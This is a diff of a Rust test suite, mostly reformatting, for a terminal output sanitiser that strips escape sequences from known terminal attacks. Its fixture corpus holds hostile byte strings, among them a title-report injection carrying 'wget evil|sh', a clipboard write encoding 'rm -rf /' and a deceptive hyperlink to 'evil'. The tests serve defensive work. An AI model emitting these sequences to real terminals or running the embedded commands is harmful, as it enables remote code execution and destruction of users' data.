@@ -7,75 +7,20 @@ use crate::terminal::line::{Colour, is_hidden};
 
 /// Sequences behind published attacks on terminals, with what may be seen of them and how much is counted.
 const CORPUS: &[(&str, &[u8], &str, u32)] = &[
-    (
-        "title report (CVE-2003-0063)",
-        b"a\x1b]2;;wget evil|sh;\x07\x1b[21tb",
-        "ab",
-        2,
-    ),
+    ("title report (CVE-2003-0063)", b"a\x1b]2;;wget evil|sh;\x07\x1b[21tb", "ab", 2),
     ("DECRQSS (CVE-2008-2383)", b"a\x1bP$q\nid\n\x1b\\b", "a", 1),
-    (
-        "DECRQSS on one line (CVE-2022-45872)",
-        b"a\x1bP$qm\x1b\\b",
-        "ab",
-        1,
-    ),
-    (
-        "rxvt graphics query (CVE-2021-33477)",
-        b"a\x1bGQb",
-        "aQb",
-        1,
-    ),
-    (
-        "font query, OSC 50 (CVE-2022-45063)",
-        b"a\x1b]50;?\x07b",
-        "ab",
-        1,
-    ),
-    (
-        "clipboard, OSC 52",
-        b"a\x1b]52;c;cm0gLXJmIC8=\x1b\\b",
-        "ab",
-        1,
-    ),
-    (
-        "link that lies, OSC 8",
-        b"\x1b]8;;http://evil\x1b\\good\x1b]8;;\x1b\\",
-        "good",
-        2,
-    ),
-    (
-        "colour query, OSC 4 and 11",
-        b"\x1b]4;1;?\x1b\\\x1b]11;?\x07x",
-        "x",
-        2,
-    ),
+    ("DECRQSS on one line (CVE-2022-45872)", b"a\x1bP$qm\x1b\\b", "ab", 1),
+    ("rxvt graphics query (CVE-2021-33477)", b"a\x1bGQb", "aQb", 1),
+    ("font query, OSC 50 (CVE-2022-45063)", b"a\x1b]50;?\x07b", "ab", 1),
+    ("clipboard, OSC 52", b"a\x1b]52;c;cm0gLXJmIC8=\x1b\\b", "ab", 1),
+    ("link that lies, OSC 8", b"\x1b]8;;http://evil\x1b\\good\x1b]8;;\x1b\\", "good", 2),
+    ("colour query, OSC 4 and 11", b"\x1b]4;1;?\x1b\\\x1b]11;?\x07x", "x", 2),
     ("answerback", b"a\x05b", "ab", 1),
-    (
-        "device attributes, status and size reports",
-        b"\x1b[c\x1b[>c\x1b[6n\x1b[18t\x1b[?1$px",
-        "x",
-        5,
-    ),
+    ("device attributes, status and size reports", b"\x1b[c\x1b[>c\x1b[6n\x1b[18t\x1b[?1$px", "x", 5),
     ("sixel", b"a\x1bPq#0;2;0;0;0~-\x1b\\b", "ab", 1),
-    (
-        "kitty graphics",
-        b"a\x1b_Gf=24,s=1,v=1;AAAA\x1b\\b",
-        "ab",
-        1,
-    ),
-    (
-        "tmux control mode (CVE-2023-46300)",
-        b"a\x1bP1000p%begin\x1b\\b",
-        "ab",
-        1,
-    ),
-    (
-        "privacy message and start of string",
-        b"a\x1b^x\x1b\\b\x1bXy\x1b\\c",
-        "abc",
-        2,
-    ),
+    ("kitty graphics", b"a\x1b_Gf=24,s=1,v=1;AAAA\x1b\\b", "ab", 1),
+    ("tmux control mode (CVE-2023-46300)", b"a\x1bP1000p%begin\x1b\\b", "ab", 1),
+    ("privacy message and start of string", b"a\x1b^x\x1b\\b\x1bXy\x1b\\c", "abc", 2),
     ("a string nobody ends", b"a\x1b]0;never ended", "a", 1),
     ("a cancelled string", b"a\x1b]0;x\x18b\x1bPq\x1ac", "abc", 2),
     (
@@ -84,48 +29,13 @@ const CORPUS: &[(&str, &[u8], &str, u32)] = &[
         "x",
         7,
     ),
-    (
-        "faked paste, mouse and sync modes",
-        b"\x1b[200~id\x1b[201~\x1b[?1000h\x1b[?2026hx",
-        "idx",
-        4,
-    ),
-    (
-        "character sets and reset",
-        b"\x1b(0\x0eq\x0f\x1bcx",
-        "qx",
-        4,
-    ),
-    (
-        "bell, NUL, form feed, vertical tab, DEL",
-        b"a\x07\x00\x0c\x0b\x7fb",
-        "ab",
-        5,
-    ),
-    (
-        "C1 as raw bytes",
-        b"a\x9b31mb\x9d0;t\x9cc\x90d",
-        "a31mb0;tcd",
-        4,
-    ),
-    (
-        "C1 in UTF-8",
-        "a\u{9b}31mb\u{9d}0;t\u{9c}c\u{85}d".as_bytes(),
-        "a31mb0;tcd",
-        4,
-    ),
-    (
-        "bidi and invisible",
-        "a\u{202e}b\u{200b}c\u{2066}".as_bytes(),
-        "a\\u{202e}b\\u{200b}c\\u{2066}",
-        0,
-    ),
-    (
-        "conceal and text in its own colour",
-        b"\x1b[8mpw\x1b[0;30;40mno",
-        "pwno",
-        0,
-    ),
+    ("faked paste, mouse and sync modes", b"\x1b[200~id\x1b[201~\x1b[?1000h\x1b[?2026hx", "idx", 4),
+    ("character sets and reset", b"\x1b(0\x0eq\x0f\x1bcx", "qx", 4),
+    ("bell, NUL, form feed, vertical tab, DEL", b"a\x07\x00\x0c\x0b\x7fb", "ab", 5),
+    ("C1 as raw bytes", b"a\x9b31mb\x9d0;t\x9cc\x90d", "a31mb0;tcd", 4),
+    ("C1 in UTF-8", "a\u{9b}31mb\u{9d}0;t\u{9c}c\u{85}d".as_bytes(), "a31mb0;tcd", 4),
+    ("bidi and invisible", "a\u{202e}b\u{200b}c\u{2066}".as_bytes(), "a\\u{202e}b\\u{200b}c\\u{2066}", 0),
+    ("conceal and text in its own colour", b"\x1b[8mpw\x1b[0;30;40mno", "pwno", 0),
     (
         "overlong and surrogate UTF-8",
         b"a\xc0\xafb\xed\xa0\x80c\xf8d",
@@ -135,10 +45,7 @@ const CORPUS: &[(&str, &[u8], &str, u32)] = &[
 ];
 
 fn texts(lines: &[OutputLine]) -> Vec<String> {
-    lines
-        .iter()
-        .map(|line| line.text.text().to_string())
-        .collect()
+    lines.iter().map(|line| line.text.text().to_string()).collect()
 }
 
 fn one(bytes: &[u8]) -> OutputLine {
@@ -183,10 +90,7 @@ fn t_cve_sequences_are_dropped_and_counted() {
 
 #[test]
 fn t_any_split_of_the_corpus_gives_the_same_cells() {
-    let whole: Vec<u8> = CORPUS
-        .iter()
-        .flat_map(|(_, bytes, ..)| [*bytes, "é漢😀\r\n".as_bytes()].concat())
-        .collect();
+    let whole: Vec<u8> = CORPUS.iter().flat_map(|(_, bytes, ..)| [*bytes, "é漢😀\r\n".as_bytes()].concat()).collect();
     let expected = lines(&whole);
     for cut in 0..=whole.len() {
         assert_eq!(in_pieces(&whole, &[cut]), expected, "cut at {cut}");
@@ -203,11 +107,7 @@ fn t_every_two_bytes_after_escape() {
             let bytes = [b"x\x1b".as_slice(), &[a, b], b"y\nz"].concat();
             let all = lines(&bytes);
             assert_clean(&all);
-            assert_eq!(
-                all[all.len() - 1].text.text().as_str(),
-                "z",
-                "{a:02x} {b:02x}: the next line is untouched"
-            );
+            assert_eq!(all[all.len() - 1].text.text().as_str(), "z", "{a:02x} {b:02x}: the next line is untouched");
             if all.iter().all(|line| line.dropped == 0) {
                 kept.push((a, b));
             }
@@ -221,11 +121,7 @@ fn t_c1_bytes_are_dropped() {
     for c1 in 0x80..=0x9fu8 {
         let raw = one(&[b'a', c1, b'b']);
         let utf8 = one(format!("a{}b", char::from(c1)).as_bytes());
-        assert_eq!(
-            (raw.text.text().as_str(), raw.dropped),
-            ("ab", 1),
-            "{c1:02x}"
-        );
+        assert_eq!((raw.text.text().as_str(), raw.dropped), ("ab", 1), "{c1:02x}");
         assert_eq!(utf8, raw, "{c1:02x}");
     }
 }
@@ -233,27 +129,12 @@ fn t_c1_bytes_are_dropped() {
 #[test]
 fn t_torn_utf8_at_every_split() {
     let text = "aé漢😀e\u{301}b\u{85}c".as_bytes();
-    let broken = [
-        text,
-        &[0xf0, 0x9f, 0x98],
-        b"\xc3A\xff\xe6\xbc\x1b[1mB\xf0\x9f\n\xe2\x82",
-    ]
-    .concat();
+    let broken = [text, &[0xf0, 0x9f, 0x98], b"\xc3A\xff\xe6\xbc\x1b[1mB\xf0\x9f\n\xe2\x82"].concat();
     let expected = lines(&broken);
-    assert_eq!(
-        texts(&expected),
-        [
-            "aé漢😀e\u{301}bc\u{fffd}\u{fffd}A\u{fffd}\u{fffd}B\u{fffd}",
-            "\u{fffd}"
-        ]
-    );
+    assert_eq!(texts(&expected), ["aé漢😀e\u{301}bc\u{fffd}\u{fffd}A\u{fffd}\u{fffd}B\u{fffd}", "\u{fffd}"]);
     for first in 0..broken.len() {
         for second in first..broken.len() {
-            assert_eq!(
-                in_pieces(&broken, &[first, second]),
-                expected,
-                "cut at {first} and {second}"
-            );
+            assert_eq!(in_pieces(&broken, &[first, second]), expected, "cut at {first} and {second}");
         }
     }
 }
@@ -266,10 +147,7 @@ fn t_combining_marks_are_bounded() {
     assert_eq!(line.dropped, 4088);
     let spread = "e\u{301}".repeat(5000);
     let line = one(spread.as_bytes());
-    assert_eq!(
-        line.text.text().as_str().matches('\u{301}').count(),
-        OUTPUT_LINE_MARKS_MAX
-    );
+    assert_eq!(line.text.text().as_str().matches('\u{301}').count(), OUTPUT_LINE_MARKS_MAX);
     assert_eq!(line.dropped, 5000 - 4096);
     assert_eq!(shown("\u{301}x".as_bytes()), "\\u{301}x");
 }
@@ -278,23 +156,14 @@ fn t_combining_marks_are_bounded() {
 fn t_long_lines_are_split_and_say_so() {
     let long = "x".repeat(3 * OUTPUT_LINE_BYTES_MAX + 10);
     let all = lines(format!("{long}\nnext\n").as_bytes());
-    let ends: Vec<_> = all
-        .iter()
-        .map(|line| (line.text.width(), line.end))
-        .collect();
+    let ends: Vec<_> = all.iter().map(|line| (line.text.width(), line.end)).collect();
     let full = (OUTPUT_LINE_BYTES_MAX, LineEnd::Split);
-    assert_eq!(
-        ends,
-        [full, full, full, (10, LineEnd::Feed), (4, LineEnd::Feed)]
-    );
+    assert_eq!(ends, [full, full, full, (10, LineEnd::Feed), (4, LineEnd::Feed)]);
     assert!(all[0].marked().text().as_str().ends_with("x↩"));
     for flood in ["漢", "\u{200b}", "e\u{301}", "\t", "\x1b[31mxy"] {
         let all = lines(flood.repeat(OUTPUT_LINE_BYTES_MAX).as_bytes());
         assert!(
-            all.len() > 1
-                && all
-                    .iter()
-                    .all(|line| line.text.text().as_str().len() <= OUTPUT_LINE_BYTES_MAX),
+            all.len() > 1 && all.iter().all(|line| line.text.text().as_str().len() <= OUTPUT_LINE_BYTES_MAX),
             "{flood:?}"
         );
     }
@@ -323,46 +192,28 @@ fn t_dropped_things_mark_their_line() {
 #[test]
 fn progress_bars_collapse() {
     assert_eq!(shown(b" 10%\r 50%\r100%\n"), "100%");
-    assert_eq!(
-        shown(b"| working\r/\n"),
-        "/ working",
-        "what was not printed over stays, as on a terminal"
-    );
+    assert_eq!(shown(b"| working\r/\n"), "/ working", "what was not printed over stays, as on a terminal");
     assert_eq!(shown(b"a-\x08\\\x08|\n"), "a|");
     assert_eq!(shown(b"\x08\x08ab\n"), "ab");
     assert_eq!(shown("漢字\rx\n".as_bytes()), "x 字");
     assert_eq!(shown("漢字\x08x\n".as_bytes()), "漢 x");
     assert_eq!(shown("ab漢\r漢\n".as_bytes()), "漢漢");
     assert_eq!(shown("a漢字\r漢\n".as_bytes()), "漢 字");
-    assert_eq!(
-        shown("e\u{301}x\rf\n".as_bytes()),
-        "fx",
-        "the mark goes with its character"
-    );
+    assert_eq!(shown("e\u{301}x\rf\n".as_bytes()), "fx", "the mark goes with its character");
 }
 
 #[test]
 fn tabs_go_to_columns() {
     assert_eq!(shown(b"a\tb\n"), "a       b");
     assert_eq!(shown(b"12345678\tb\n"), "12345678        b");
-    assert_eq!(
-        shown(b"abcdefghij\r\tX\n"),
-        "abcdefghXj",
-        "a tab moves over what stands there"
-    );
+    assert_eq!(shown(b"abcdefghij\r\tX\n"), "abcdefghXj", "a tab moves over what stands there");
     assert_eq!(shown("漢\tb\n".as_bytes()), "漢      b");
 }
 
 #[test]
 fn colours_are_kept_and_end_with_the_line() {
-    let all =
-        lines(b"\x1b[1;31mred\x1b[0m \x1b[38;5;208mx\x1b[48;2;1;2;3my\x1b[38:2::9:8:7mz\nplain\n");
-    let runs: Vec<_> = all[0]
-        .text
-        .runs()
-        .iter()
-        .map(|run| (run.text.as_str(), run.style.fg, run.style.bg))
-        .collect();
+    let all = lines(b"\x1b[1;31mred\x1b[0m \x1b[38;5;208mx\x1b[48;2;1;2;3my\x1b[38:2::9:8:7mz\nplain\n");
+    let runs: Vec<_> = all[0].text.runs().iter().map(|run| (run.text.as_str(), run.style.fg, run.style.bg)).collect();
     let (none, back) = (Colour::Default, Colour::Rgb(1, 2, 3));
     assert_eq!(
         runs,
@@ -381,21 +232,11 @@ fn colours_are_kept_and_end_with_the_line() {
 
 #[test]
 fn malformed_colours_change_nothing_else() {
-    for sgr in [
-        "38", "38;5", "38;2;1;2", "38;9", "48;5;999", "38:7:1", "999", ";;", "58;5;1",
-    ] {
+    for sgr in ["38", "38;5", "38;2;1;2", "38;9", "48;5;999", "38:7:1", "999", ";;", "58;5;1"] {
         let line = one(format!("\x1b[{sgr}mx").as_bytes());
-        assert_eq!(
-            (line.text.runs()[0].style, line.dropped),
-            (StyleBits::PLAIN, 0),
-            "{sgr}"
-        );
+        assert_eq!((line.text.runs()[0].style, line.dropped), (StyleBits::PLAIN, 0), "{sgr}");
     }
-    assert_eq!(
-        one(format!("\x1b[{}mx", "1;".repeat(40)).as_bytes()).dropped,
-        1,
-        "more parameters than anyone needs"
-    );
+    assert_eq!(one(format!("\x1b[{}mx", "1;".repeat(40)).as_bytes()).dropped, 1, "more parameters than anyone needs");
 }
 
 #[test]
@@ -406,10 +247,7 @@ fn the_unfinished_line_can_be_seen() {
     filter.push(b"done\n 42%", &mut out);
     assert_eq!(texts(&out), ["done"]);
     let open = filter.open().unwrap_or_default();
-    assert_eq!(
-        (open.text.text().as_str(), open.end),
-        (" 42%", LineEnd::Open)
-    );
+    assert_eq!((open.text.text().as_str(), open.end), (" 42%", LineEnd::Open));
     assert_eq!(filter.finish(), [open]);
 }
 
@@ -424,17 +262,9 @@ fn t_the_raw_view_shows_escapes_as_text() {
     let lines = raw_lines(b"a\x1b[31mb\x9b\t^[\r\n\n\xe2\x82\xac\n");
     assert_eq!(lines.len(), 3);
     assert_eq!(lines[0].text().as_str(), "a^[[31mb\\x9b^I^[^M");
-    let spelled: Vec<_> = lines[0]
-        .runs()
-        .iter()
-        .filter(|run| run.style.attrs.has(Attrs::REVERSE))
-        .map(|run| run.text.as_str())
-        .collect();
-    assert_eq!(
-        spelled,
-        ["^[", "\\x9b^I", "^M"],
-        "what the host printed as ^[ is not marked"
-    );
+    let spelled: Vec<_> =
+        lines[0].runs().iter().filter(|run| run.style.attrs.has(Attrs::REVERSE)).map(|run| run.text.as_str()).collect();
+    assert_eq!(spelled, ["^[", "\\x9b^I", "^M"], "what the host printed as ^[ is not marked");
     assert_eq!(lines[2].text().as_str(), "€");
 }
 
